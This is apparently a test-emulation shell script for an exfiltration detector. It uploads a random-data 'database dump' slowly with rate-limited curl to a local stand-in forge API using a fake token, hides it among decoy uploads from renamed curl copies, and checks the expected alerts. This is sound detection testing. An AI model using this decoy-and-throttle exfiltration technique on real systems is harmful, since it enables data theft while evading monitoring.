#!/bin/sh
# Emulates scenario decoy-pushes-slow-upload (examples/scenarios/decoy-pushes-slow-upload.yaml):
# A dump streamed to a release by a rate-limited curl, four quick uploads by other programs right after it.
#
# Safe version: 96 MiB of random "dump" on curl's stdin, sent at 3 MiB/s to the in-namespace forge-api
# stand-in with a fake token; four copies of curl under other names (one tool's pushes within the settle
# time would join one push) each POST 1.2 MiB of padding to the in-namespace registry's upload endpoint.
# The first alert for the curl is judged early (low); at its time it is judged again on its reads (high).
#
# Image: curlimages/curl:8.11.1
# Expected alert: push-without-reads, severity low
# Expected alert: bulk-read-then-push, severity high
# Expected alert: push-after-moderate-reads, severity medium
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need curl head
emu_check_target "$EMU_FORGE_URL"
emu_check_target "$EMU_REGISTRY"
work="$EMU_WORKDIR/decoy-pushes-slow-upload"
rm -rf "$work"
mkdir -p "$work/.cache"
emu_big_file "$work/srv/backup/orders.dump" 96
head -c 1228800 /dev/urandom >"$work/.cache/pad"
for n in 1 2 3 4; do cp "$(command -v curl)" "$work/.cache/up$n"; done
# curl reads its stdin as it sends it: the dump's reads are curl's own, at the rate limit.
curl -fsS -o /dev/null --limit-rate 3M -T - -H "Authorization: token ghp_FAKEEXAMPLETOKEN000000000000000000" \
  "$EMU_FORGE_URL/repos/ord-exports/d/releases/88123/assets?name=o.dump" <"$work/srv/backup/orders.dump" &
upload=$!
for n in 1 2 3 4; do
  "$work/.cache/up$n" -sS -o /dev/null -X POST --data-binary "@$work/.cache/pad" \
    "http://$EMU_REGISTRY/v2/ord-cache/blobs/uploads/" || true
done
emu_log "four decoy uploads sent; waiting for the real one (about 32 s at 3 MiB/s)"
wait "$upload" || emu_log "the upload ended with an error (the bytes were read and sent by then)"
rm -rf "$work"
emu_expect push-without-reads low
emu_expect bulk-read-then-push high
emu_expect push-after-moderate-reads medium
